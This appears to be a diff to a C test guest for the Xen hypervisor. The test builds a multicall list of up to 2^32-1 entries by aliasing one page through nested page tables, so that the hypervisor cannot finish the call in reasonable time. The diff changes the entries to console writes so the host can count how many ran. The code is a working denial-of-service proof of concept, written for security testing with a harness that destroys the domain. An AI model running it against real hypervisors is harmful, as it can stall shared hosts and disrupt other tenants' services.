@@ -1,6 +1,7 @@
 /* Attack: a multicall the hypervisor cannot finish in one go.
  *
- * One page holds 64 multicall entries (xen_version(XENVER_version) each). An
+ * One page holds 64 multicall entries, each console_io(CONSOLEIO_write) of
+ * one '~' (so the host can count exactly how many entries ran). An
  * L1 maps that page 512 times, an L2 maps the L1 512 times and an L3 maps the
  * L2 256 times, hooked into a free L4 slot: 256 GiB of VA in which entry i is
  * always the same page's entry i % 64, so a list of 2^32-1 entries exists
@@ -8,7 +9,7 @@
  *
  * cmdline `nr=<n>` (default 0xffffffff): entries in the big multicall. With a
  * small n the guest checks the multicall finished: `result mc_rc 0` and
- * `result mc_entry_result <version>`. With the default it never returns in
+ * `result mc_entry_result 0`, and n '~' were written. With the default it never returns in
  * any reasonable time; the test watches the host and destroys the domain.
  *
  * Before that, two small checks (Xen: xen/common/multicall.c):
@@ -62,8 +63,13 @@ void app_main(void)
     /* The aliased list. */
     struct mc_entry *page = alloc_page();
     u64 *l1 = alloc_page(), *l2 = alloc_page(), *l3 = alloc_page();
-    for (unsigned i = 0; i < PAGE_SIZE / sizeof(struct mc_entry); i++)
-        page[i].op = __HYPERVISOR_xen_version;       /* args: XENVER_version */
+    static const char tilde = '~';
+    for (unsigned i = 0; i < PAGE_SIZE / sizeof(struct mc_entry); i++) {
+        page[i].op = __HYPERVISOR_console_io;
+        page[i].args[0] = CONSOLEIO_write;
+        page[i].args[1] = 1;
+        page[i].args[2] = (u64)&tilde;
+    }
     for (unsigned i = 0; i < 512; i++) {
         l1[i] = (virt_to_mfn(page) << PAGE_SHIFT) | PTE_KERNEL_RW;
         l2[i] = (virt_to_mfn(l1) << PAGE_SHIFT) | PTE_TABLE;
@@ -80,12 +86,16 @@ void app_main(void)
     if (rc)
         panic("cannot hook the aliased tables");
     struct mc_entry *list = (struct mc_entry *)(0xFFFF000000000000UL | ((u64)slot << 39));
-    if (list[12345].op != __HYPERVISOR_xen_version)
+    if (list[12345].op != __HYPERVISOR_console_io)
         panic("aliasing does not work");
 
     unsigned long nr = cmdline_u64(cmdline(), "nr", 0xffffffffUL);
     printk("about to multicall %lu entries at %p\n", nr, list);
+    for (unsigned i = 0; i < PAGE_SIZE / sizeof(struct mc_entry); i++)
+        page[i].result = 0x5555;                     /* overwritten by every entry run */
+    console_flush();            /* the ring's lines out before console_io's '~' */
     rc = HYPERVISOR_multicall(list, nr);
+    printk("\n");
     result("mc_rc", rc);
     result("mc_entry_result", (long)page[(nr - 1) % 64].result);
     result("xen_version", HYPERVISOR_xen_version(0, NULL));
